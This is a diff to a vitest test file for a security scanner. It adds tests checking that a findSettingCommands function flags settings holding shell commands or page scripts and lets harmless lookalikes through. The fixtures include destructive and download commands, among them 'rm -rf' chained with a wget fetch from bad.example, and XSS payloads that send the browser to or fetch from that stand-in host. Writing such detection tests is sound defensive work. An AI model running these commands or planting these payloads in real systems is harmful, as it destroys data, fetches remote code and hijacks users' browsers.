@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { findPythonCalls, findShellCommands } from "../../src/scanners/commands.js";
+import { findPythonCalls, findSettingCommands, findShellCommands } from "../../src/scanners/commands.js";
 
 describe("shell commands that only an attack needs", () => {
   test.each([
@@ -44,4 +44,30 @@ describe("Python that reaches for the system", () => {
       expect(findPythonCalls(text)).toEqual([]);
     },
   );
+});
+
+describe("a setting that is a command or a page's script", () => {
+  test.each([
+    ["rm -rf /tmp/test && wget http://bad.example/script.sh", "shell command"],
+    ["sudo rm -r -f models", "shell command"],
+    ["chmod 777 /tmp/x; ./x", "shell command"],
+    ["<script>document.location='http://bad.example'</script>", "script of a page"],
+    ['<SCRIPT type="module" src="//bad.example/x.js">', "script of a page"],
+    ["<img src=x onerror=alert(1)>", "script of a page"],
+    ["<svg/onload=fetch('//bad.example')>", "script of a page"],
+  ])("%s", (text, kind) => {
+    expect(findSettingCommands(text).map((found) => found.kind)).toEqual([kind]);
+  });
+
+  test.each([
+    "<script>",
+    "a rm -rf b",
+    "rm -rf is a command",
+    "chmod 644 model.bin",
+    '<img src="https://example.org/logo.png" alt="on (logo)">',
+    "<b>Model</b> of <a href='https://example.org/on=1(2)'>us</a>",
+    "<image> on =(x)",
+  ])("%s is none", (text) => {
+    expect(findSettingCommands(text)).toEqual([]);
+  });
 });
